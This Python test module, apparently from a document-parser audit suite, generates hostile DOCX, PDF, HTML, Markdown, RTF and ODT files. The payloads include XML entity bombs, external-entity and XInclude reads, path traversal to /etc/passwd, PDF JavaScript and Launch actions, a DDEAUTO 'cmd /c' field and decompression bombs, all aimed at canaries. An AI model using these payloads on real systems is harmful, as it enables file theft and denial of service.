"""Files built to break a reader, to have it fetch something, or to get at a file that is none of its business.

Each that points elsewhere points at a canary: ``web`` is the address of a server that nobody may ask,
``secret`` a file that nobody may open.
"""

from __future__ import annotations

import base64
import io
import re
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path

from ogi_audit_testing.makers import LAYOUTS, consistent

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_BOMB = (
    '<!DOCTYPE w [<!ENTITY a0 "有公开">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    + "]>"
)


def _report(layout: str) -> bytes:
    return LAYOUTS[layout].render(consistent(3))


def _docx(
    change: Mapping[str, Callable[[str], str]] | None = None,
    more: Mapping[str, str | bytes] | None = None,
) -> bytes:
    """A report as DOCX, its parts changed, and with others more."""
    target = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(_report("docx-official"))) as package,
        zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as changed,
    ):
        for part in package.namelist():
            text = package.read(part).decode()
            changed.writestr(part, (change or {}).get(part, str)(text))
        with warnings.catch_warnings():
            # Of parts that are there twice.
            warnings.simplefilter("ignore", UserWarning)
            for part, content in (more or {}).items():
                changed.writestr(part, content)
    return target.getvalue()


def _in_document(before: str, inside: str = "") -> dict[str, Callable[[str], str]]:
    """Put something before the root of the main part, and something at the start of its body."""

    def change(text: str) -> str:
        text = re.sub(r"(<w:document\b)", lambda root: before + root[1], text, count=1)
        return re.sub(r"(<w:body>)", lambda body: body[1] + inside, text, count=1)

    return {"word/document.xml": change}


def _relations(*entries: str) -> Callable[[str], str]:
    return lambda text: text.replace("</Relationships>", "".join(entries) + "</Relationships>")


def _pdf(*objects: bytes, root: bytes = b"1 0 R", tail: bytes = b"") -> bytes:
    """A PDF file of objects numbered from 1, without a cross-reference table."""
    parts = [b"%PDF-1.7\n"]
    parts += [b"%d 0 obj\n%s\nendobj\n" % (number, one) for number, one in enumerate(objects, 1)]
    return b"".join(parts) + b"trailer<</Root %s>>\n%s%%%%EOF\n" % (root, tail)


def _stream(content: bytes, more: bytes = b"") -> bytes:
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(content), more, content)


_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>"
_PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"


def hostile_docx(web: str, secret: Path) -> Iterator[tuple[str, bytes]]:
    """DOCX and other files of Word."""
    uri = secret.as_uri()
    paragraph = "<w:p><w:r><w:t>&{};</w:t></w:r></w:p>"
    yield "entities.docx", _docx(_in_document(_BOMB, paragraph.format("a9")))
    for name, target in (("file", uri), ("web", f"{web}/entity")):
        entity = f'<!DOCTYPE w [<!ENTITY x SYSTEM "{target}">]>'
        yield f"entity-{name}.docx", _docx(_in_document(entity, paragraph.format("x")))
        outside = f'<!DOCTYPE w SYSTEM "{target}">'
        yield f"dtd-{name}.docx", _docx(_in_document(outside))
        parameter = f'<!DOCTYPE w [<!ENTITY % x SYSTEM "{target}"> %x;]>'
        yield f"parameter-{name}.docx", _docx(_in_document(parameter))
        include = (
            f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{target}" parse="text"/>'
        )
        yield f"include-{name}.docx", _docx(_in_document("", include))
        relations = [
            f'<Relationship Id="x{number}" Type="{_R}/{kind}" Target="{target}" TargetMode="External"/>'
            for number, kind in enumerate(
                ("attachedTemplate", "image", "aFChunk", "subDocument", "oleObject")
            )
        ]
        inside = f'<w:altChunk xmlns:r="{_R}" r:id="x2"/><w:subDoc xmlns:r="{_R}" r:id="x3"/>'
        changes = {
            "word/_rels/document.xml.rels": _relations(*relations),
            "_rels/.rels": _relations(*relations),
            **_in_document("", inside),
        }
        yield f"relations-{name}.docx", _docx(changes)
        yield (
            f"template-{name}.xml",
            _flat(
                f'<w:p><w:hlink w:dest="{target}"><w:r><w:t>一、总体情况</w:t></w:r></w:hlink></w:p>'
            ),
        )
        field = f' INCLUDETEXT "{target}" '
        code = f"<w:p><w:fldSimple w:instr='{field}'><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>"
        yield f"field-{name}.docx", _docx(_in_document("", code))
    inside = f'<w:altChunk xmlns:r="{_R}" r:id="x"/>'
    for number, target in enumerate(
        (str(secret), "../" * 9 + str(secret)[1:], "..\\..\\" + str(secret))
    ):
        relation = f'<Relationship Id="x" Type="{_R}/aFChunk" Target="{target}"/>'
        rels = {"word/_rels/document.xml.rels": _relations(relation), **_in_document("", inside)}
        yield (
            f"path-{number}.docx",
            _docx(rels, {"../../" + str(secret)[1:] + "2": "x", "/etc/passwd": "x"}),
        )
    relation = f'<Relationship Id="x" Type="{_R}/aFChunk" Target="document.xml"/>'
    rels = {"word/_rels/document.xml.rels": _relations(relation), **_in_document("", inside)}
    yield "itself.docx", _docx(rels)
    yield "twice.docx", _docx(more={"word/document.xml": "<a/>", "[Content_Types].xml": "<a/>"})
    yield "flat-entities.xml", _flat("<w:p><w:r><w:t>&a9;</w:t></w:r></w:p>", _BOMB)
    deep = "<w:tbl><w:tr><w:tc>" * 60 + "</w:tc></w:tr></w:tbl>" * 60
    yield "deep.docx", _docx(_in_document("", deep))
    yield "deeper.docx", _docx(_in_document("", "<w:ins>" * 5000 + "</w:ins>" * 5000))
    yield (
        "spans.docx",
        _docx(
            _in_document(
                "",
                '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr></w:tc></w:tr></w:tbl>',
            )
        ),
    )
    yield "macro.docx", _docx(more={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(600)})
    quine = io.BytesIO()
    with zipfile.ZipFile(quine, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "wordprocessingml.document.main" + " " * 50_000_000)
    yield "types-bomb.docx", quine.getvalue()
    yield "lies.docx", _lying(_docx())


def _flat(inside: str, before: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{before}'
        '<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml">'
        f"<w:body>{inside}</w:body></w:wordDocument>"
    ).encode()


def _lying(data: bytes) -> bytes:
    """An archive whose directory says that every part has 1 byte."""
    lying = bytearray(data)
    for entry in re.finditer(rb"PK\x01\x02", data):
        lying[entry.start() + 24 : entry.start() + 28] = (1).to_bytes(4, "little")
    return bytes(lying)


def hostile_pdf(web: str, secret: Path) -> Iterator[tuple[str, bytes]]:
    """PDF files."""
    path, address = str(secret).encode(), web.encode()
    text = _stream(b"BT /F1 12 Tf 50 700 Td (1 2 3) Tj ET")
    script = (
        b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL('%s/js'))>>>>"
        % address
    )
    yield "script.pdf", _pdf(script, _PAGES, _PAGE, text)
    launch = (
        b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(%s)>>/AA<</WC<</S/URI/URI(%s)>>>>>>"
    )
    yield "launch.pdf", _pdf(launch % (path, address), _PAGES, _PAGE, text)
    embedded = b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a)5 0 R]>>>>>>"
    attached = b"<</Type/Filespec/F(../../%s)/EF<</F 6 0 R>>>>" % path
    yield "embedded.pdf", _pdf(embedded, _PAGES, _PAGE, text, attached, _stream(b"x" * 1000))
    outside = b"<</Length 0/F(%s)>>stream\n\nendstream" % path
    yield "external-stream.pdf", _pdf(b"<</Type/Catalog/Pages 2 0 R>>", _PAGES, _PAGE, outside)
    catalogue = b"<</Type/Catalog/Pages 2 0 R>>"
    yield "loop.pdf", _pdf(catalogue, b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>")
    yield (
        "parents.pdf",
        _pdf(catalogue, _PAGES, b"<</Type/Page/Parent 3 0 R/Contents 3 0 R/Resources 3 0 R>>"),
    )
    endless = [
        b"<</Type/Pages/Kids[%d 0 R]/Count 1/Parent %d 0 R>>" % (n + 1, n - 1)
        for n in range(2, 3000)
    ]
    yield "endless.pdf", _pdf(catalogue, *endless)
    yield (
        "many.pdf",
        _pdf(
            catalogue, b"<</Type/Pages/Kids[" + b"3 0 R " * 50_000 + b"]/Count 50000>>", _PAGE, text
        ),
    )
    yield (
        "counted.pdf",
        _pdf(catalogue, b"<</Type/Pages/Kids[3 0 R]/Count 2147483647>>", _PAGE, text),
    )
    yield "negative.pdf", _pdf(catalogue, b"<</Type/Pages/Kids[3 0 R]/Count -1>>", _PAGE, text)
    bomb = zlib.compress(bytes(60_000_000))
    yield "bomb.pdf", _pdf(catalogue, _PAGES, _PAGE, _stream(bomb, b"/Filter/FlateDecode"))
    twice = zlib.compress(zlib.compress(bytes(60_000_000)))
    yield (
        "filters.pdf",
        _pdf(catalogue, _PAGES, _PAGE, _stream(twice, b"/Filter[/FlateDecode/FlateDecode]")),
    )
    yield "brackets.pdf", _pdf(catalogue, _PAGES, _PAGE, b"[" * 100_000)
    yield "operators.pdf", _pdf(catalogue, _PAGES, _PAGE, _stream(b"q " * 200_000 + b"[" * 20_000))
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</A 5 0 R>>>>"
    calls = _stream(b"/A Do /A Do", form)
    page = _PAGE.replace(b"/Contents", b"/Resources<</XObject<</A 5 0 R>>>>/Contents")
    yield "forms.pdf", _pdf(catalogue, _PAGES, page, _stream(b"/A Do"), calls)
    huge = _PAGE.replace(b"0 0 595 842", b"0 0 1e30 1e30")
    yield "huge-page.pdf", _pdf(catalogue, _PAGES, huge, text)
    turned = _PAGE.replace(b"/Contents", b"/Rotate 45/UserUnit 1e9/Contents")
    yield "turned.pdf", _pdf(catalogue, _PAGES, turned, text)
    whole = _report("pdf-ruled")
    yield "no-table.pdf", re.sub(rb"xref[\s\S]*?trailer", b"xref\n0 0\ntrailer", whole)
    yield "wrong-table.pdf", re.sub(rb"\d{10} 00000 n", b"0000000009 00000 n", whole)
    yield "far-table.pdf", re.sub(rb"startxref\s+\d+", b"startxref\n99999999999999", whole)
    yield (
        "chain.pdf",
        whole.replace(b"trailer\n<<", b"trailer\n<</Prev 9 ").replace(
            b"trailer <<", b"trailer <</Prev 9 "
        ),
    )
    yield (
        "lines.pdf",
        _pdf(
            catalogue,
            _PAGES,
            _PAGE,
            _stream(
                b"".join(
                    b"%d 0 m %d 800 l S 0 %d m 500 %d l S\n" % ((n % 590,) * 2 + (n % 800,) * 2)
                    for n in range(20_000)
                )
            ),
        ),
    )


def hostile_pages(web: str, secret: Path) -> Iterator[tuple[str, bytes]]:
    """Web pages, saved pages and what only looks like one."""
    page = _report("html-plain").decode()
    links = "".join(
        f'<link rel="stylesheet" href="{target}"><script src="{target}"></script><img src="{target}">'
        f'<iframe src="{target}"></iframe><object data="{target}"></object><base href="{target}">'
        f'<meta http-equiv="refresh" content="0;url={target}"><video src="{target}"></video>'
        for target in (f"{web}/page", secret.as_uri())
    )
    yield "links.html", page.replace("<body>", f"<body>{links}").encode()
    for name, target in (("file", secret.as_uri()), ("web", f"{web}/dtd")):
        head = f'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "{target}">]>'
        yield f"entity-{name}.html", (head + page.replace("<body>", "<body><p>&x;</p>")).encode()
        yield (
            f"include-{name}.html",
            page.replace(
                "<body>",
                f'<body><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{target}"/>',
            ).encode(),
        )
    yield (
        "entities.html",
        (_BOMB.replace(" w ", " html ") + page.replace("<body>", "<body>&a9;")).encode(),
    )
    for tag in ("div", "b", "table><tr><td", "ul><li", "font color=red"):
        yield f"million-{tag[:5].strip('>< ')}.html", (f"<{tag}>" * 1_000_000 + "报告").encode()
    yield (
        "attributes.html",
        ("<p " + "".join(f"a{n}=1 " for n in range(100_000)) + ">报告" + page).encode(),
    )
    yield "spans.html", page.replace("<td>", '<td colspan="1000" rowspan="65534">').encode()
    yield "comments.html", ("<!--" * 300_000 + page).encode()
    yield "tags.html", ("<" * 500_000 + page).encode()
    yield "breaks.html", ("<html>" + "<br>" * 300_000 + page).encode()
    parts = "".join(
        f'--b{n}\nContent-Type: multipart/related; boundary="b{n + 1}"\n\n' for n in range(400)
    )
    head = 'MIME-Version: 1.0\nContent-Type: multipart/related; boundary="b0"\n\n'
    yield "parts.mhtml", (head + parts).encode()
    location = f"Content-Type: text/html\nContent-Location: {web}/mhtml\n\n"
    yield "location.mhtml", (f"{head}--b0\n{location}{page}\n--b0--\n").encode()
    yield (
        "base64.mhtml",
        (
            f"{head}--b0\nContent-Type: text/html\nContent-Transfer-Encoding: base64\n\n".encode()
            + base64.b64encode(page.encode())[:-7]
        ),
    )


def hostile_texts(web: str, secret: Path) -> Iterator[tuple[str, bytes]]:
    """Plain text and Markdown."""
    text, marked = _report("text-bars").decode(), _report("md-pipes").decode()
    for name, sign in (
        *(
            ("blanks", " "),
            ("tabs", "\t"),
            ("bars", "|"),
            ("dashes", "-"),
            ("marks", "*_`~"),
            ("links", "["),
        ),
        *(
            ("digits", "1"),
            ("numerals", "一"),
            ("quotes", ">"),
            ("hashes", "#"),
            ("escapes", "\\"),
            ("wide", "（"),
        ),
    ):
        yield f"{name}.txt", (text + sign * (400_000 // len(sign)) + "\n").encode()
        yield f"{name}.md", (marked + sign * (400_000 // len(sign)) + "x\n").encode()
    yield "lines.txt", ("\n" * 1_000_000 + text).encode()
    yield "pages.txt", ("\f1\n" * 100_000 + text).encode()
    yield "rules.md", ("|---" * 100_000 + "|\n" + marked).encode()
    yield "tables.md", ("<table>" * 100_000 + marked).encode()
    yield "front.md", ("---\n" + "a: b\n" * 100_000 + marked).encode()
    yield (
        "include.md",
        (marked + f"\n![a]({web}/md)\n![b]({secret.as_uri()})\n<img src='{web}/x'>\n").encode(),
    )
    yield "nothing.txt", bytes(1_000_000)
    yield "marks.txt", "\ufeff".encode() * 100_000
    yield "broken.txt", b"\xff\xfe\xfd" * 100_000
    yield "long.txt", ("公开" * 600_000 + "\n" + text).encode()


def hostile_office(web: str, secret: Path) -> Iterator[tuple[str, bytes]]:
    """Files that LibreOffice opens."""
    for name, target in (("file", str(secret)), ("web", f"{web}/rtf")):
        field = rf'{{\field{{\*\fldinst INCLUDEPICTURE "{target}" \\d}}{{\fldrslt x}}}}'
        text = rf'{{\field{{\*\fldinst INCLUDETEXT "{target}"}}{{\fldrslt y}}}}'
        link = rf'{{\field{{\*\fldinst DDEAUTO cmd "/c {target}"}}{{\fldrslt z}}}}{{\*\template {target}}}'
        yield f"fields-{name}.rtf", rf"{{\rtf1\ansi {field}{text}{link} 2023 1 2 3\par}}".encode()
    xlink = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
    for name, target in (("file", secret.as_uri()), ("web", f"{web}/odt")):
        body = (
            f'<text:p>一<draw:frame><draw:image {xlink} xlink:href="{target}" xlink:type="simple" '
            'xlink:actuate="onLoad"/></draw:frame></text:p><text:section text:name="s">'
            f'<text:section-source {xlink} xlink:href="{target}"/><text:p>二</text:p></text:section>'
        )
        yield f"linked-{name}.odt", _odt(body)
    yield "entities.odt", _odt("<text:p>&a9;</text:p>", _BOMB)


def _odt(body: str, before: str = "") -> bytes:
    names = "".join(
        f' xmlns:{short}="urn:oasis:names:tc:opendocument:xmlns:{long}:1.0"'
        for short, long in (
            ("office", "office"),
            ("text", "text"),
            ("draw", "drawing"),
            ("manifest", "manifest"),
        )
    )
    content = (
        f'{before}<office:document-content{names} office:version="1.2"><office:body><office:text>{body}'
        "</office:text></office:body></office:document-content>"
    )
    entries = (("/", "application/vnd.oasis.opendocument.text"), ("content.xml", "text/xml"))
    manifest = "".join(
        f'<manifest:file-entry manifest:full-path="{path}" manifest:media-type="{kind}"/>'
        for path, kind in entries
    )
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as package:
        package.writestr("mimetype", entries[0][1])
        package.writestr("content.xml", content)
        package.writestr(
            "META-INF/manifest.xml", f"<manifest:manifest{names}>{manifest}</manifest:manifest>"
        )
    return target.getvalue()


KINDS = {
    "docx": hostile_docx,
    "pdf": hostile_pdf,
    "pages": hostile_pages,
    "texts": hostile_texts,
    "office": hostile_office,
}
